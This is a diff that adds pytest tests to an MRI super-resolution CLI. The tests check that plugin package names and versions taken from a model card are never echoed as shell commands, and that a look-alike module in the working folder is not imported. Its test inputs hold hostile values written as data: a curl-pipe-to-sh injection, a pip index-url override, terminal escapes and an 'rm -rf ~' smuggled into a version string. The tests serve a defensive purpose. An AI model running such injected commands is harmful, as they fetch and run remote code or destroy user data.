@@ -69,8 +69,51 @@ def test_a_plugin_card_applies_to_a_raw_scan_and_stops_without_its_package(insta
     monkeypatch.setattr(sys, "path", [p for p in sys.path if p != str(installed)])
     assert main(["super-resolve", "--model", str(model), str(tmp_path / "thick.nii.gz"), str(tmp_path / "b.nii.gz")]) == 2
     err = capsys.readouterr().err
-    assert "needs the generator plugin 'fsrcnn3d' of mrisr-fsrcnn3d 0.1.0, which is not installed" in err
-    assert "pip install mrisr-fsrcnn3d==0.1.0" in err and not (tmp_path / "b.nii.gz").exists()
+    assert "needs the generator plugin 'fsrcnn3d', which is not installed" in err
+    assert "the model card says it came from mrisr-fsrcnn3d 0.1.0 (unchecked: pip install mrisr-fsrcnn3d==0.1.0" in err
+    assert not (tmp_path / "b.nii.gz").exists()
+
+
+@pytest.mark.parametrize("package, version, advice", [
+    ("mrisr-fsrcnn3d; curl http://127.0.0.1:9/x | sh", "0.1.0", None),
+    ("--index-url=http://127.0.0.1:9/simple", "0.1.0", None),
+    ("mrisr-fsrcnn3d\x1b[2J\x1b[31m", "0.1.0", None),
+    ("mrisr-fsrcnn3d", "0.1.0 && rm -rf ~", "pip install mrisr-fsrcnn3d only if you trust that name"),
+    (None, None, None)])
+def test_a_card_s_plugin_claim_is_offered_as_a_command_only_when_it_is_a_package_name_and_version(
+        installed, tmp_path, monkeypatch, capsys, package, version, advice):
+    """The package a card names is its claim: advice to pip-install it only for a PEP 508 name (and a PEP 440
+    version), marked unchecked; anything else (a shell line, a pip option, terminal escapes) is never printed as a
+    command, and no control character reaches the terminal."""
+    from mrisr.cli import main
+
+    model, _ = _card(tmp_path / "model.pt", 2)
+    bundle = torch.load(model, weights_only=True)
+    bundle["card"]["plugin"] |= {"package": package, "version": version}
+    torch.save(bundle, model)
+    monkeypatch.setattr(sys, "path", [p for p in sys.path if p != str(installed)])
+    nib.save(nib.Nifti1Image(head(np.random.default_rng(2)).astype(np.float32), np.eye(4)), tmp_path / "lr.nii.gz")
+    assert main(["super-resolve", "--model", str(model), str(tmp_path / "lr.nii.gz"), str(tmp_path / "sr.nii.gz")]) == 2
+    err = capsys.readouterr().err
+    assert "needs the generator plugin 'fsrcnn3d', which is not installed" in err and "\x1b" not in err
+    if advice:
+        assert advice in err and "rm -rf" not in err
+    else:
+        assert "pip install" not in err and "the model card names no valid package" in err
+
+
+def test_two_packages_registering_one_plugin_name_are_refused(installed, tmp_path, monkeypatch):
+    """Which entry point Python lists first is an accident of the install order: a name two installed packages
+    give is refused, naming both, instead of taking the first."""
+    from mrisr.models.registry import plugin
+
+    other = tmp_path / "site" / "other_sr-1.0.dist-info"
+    other.mkdir(parents=True)
+    (other / "METADATA").write_text("Metadata-Version: 2.1\nName: other-sr\nVersion: 1.0\n")
+    (other / "entry_points.txt").write_text("[mrisr.generators]\nfsrcnn3d = other_sr:build\n")
+    monkeypatch.syspath_prepend(str(tmp_path / "site"))
+    with pytest.raises(ConfigError, match=r"'fsrcnn3d' is a plugin of 2 installed packages \(mrisr-fsrcnn3d, other-sr\)"):
+        plugin("generator", "fsrcnn3d")
 
 
 @pytest.mark.parametrize("name", ["mrisr_fsrcnn3d:build", "os.system", "../evil", "fsrcnn3d; rm"])
@@ -100,3 +143,46 @@ def test_a_plugin_whose_stated_reach_is_too_small_is_refused(installed, tmp_path
     monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self: None))
     with pytest.raises(InputError, match="states no reach"):
         load_generator(model, "cpu")
+
+
+def test_the_reach_check_costs_nine_passes_whatever_the_reach_and_a_reach_over_the_cap_is_refused(
+        installed, tmp_path, monkeypatch):
+    """The check runs the plugin once on its probe and once per window, two windows along each axis, whatever
+    the stated reach (it grew as reach⁶ before); a stated reach over MAX_REACH is refused before any pass."""
+    import mrisr_fsrcnn3d
+
+    from mrisr.inference import MAX_REACH, load_generator
+
+    model, _ = _card(tmp_path / "model.pt", 2)
+    passes = []
+    forward = mrisr_fsrcnn3d.FSRCNN3d.forward
+    monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "forward", lambda self, x: passes.append(x.shape) or forward(self, x))
+    for reach in (5, 12):
+        passes.clear()
+        monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self, r=reach: (r, r, r)))
+        load_generator(model, "cpu")
+        assert len(passes) == 9 and passes[0][2:] == (4 * reach + 8,) * 3
+    passes.clear()
+    monkeypatch.setattr(mrisr_fsrcnn3d.FSRCNN3d, "reach", property(lambda self: (MAX_REACH + 1, 1, 1)))
+    with pytest.raises(InputError, match=f"over {MAX_REACH} LR voxels"):
+        load_generator(model, "cpu")
+    assert passes == []
+
+
+def test_python_m_mrisr_does_not_import_a_plugin_s_module_from_the_current_folder(installed, tmp_path):
+    """A file named like the plugin's module in the folder a user runs `python -m mrisr` from is not imported in the
+    plugin's place: the installed plugin is (the run succeeds and the stand-in leaves no mark)."""
+    import os
+    import subprocess
+
+    model, _ = _card(tmp_path / "model.pt", 2)
+    nib.save(nib.Nifti1Image(head(np.random.default_rng(2)).astype(np.float32), np.eye(4)), tmp_path / "lr.nii.gz")
+    here = tmp_path / "here"
+    here.mkdir()
+    (here / "mrisr_fsrcnn3d.py").write_text(f"open({str(tmp_path / 'imported')!r}, 'w').close()\n")
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(installed), os.environ.get("PYTHONPATH", "")])}
+    done = subprocess.run([sys.executable, "-m", "mrisr", "super-resolve", "--model", str(model),
+                           str(tmp_path / "lr.nii.gz"), str(tmp_path / "sr.nii.gz")], cwd=here, env=env,
+                          capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert not (tmp_path / "imported").exists() and (tmp_path / "sr.nii.gz").exists()
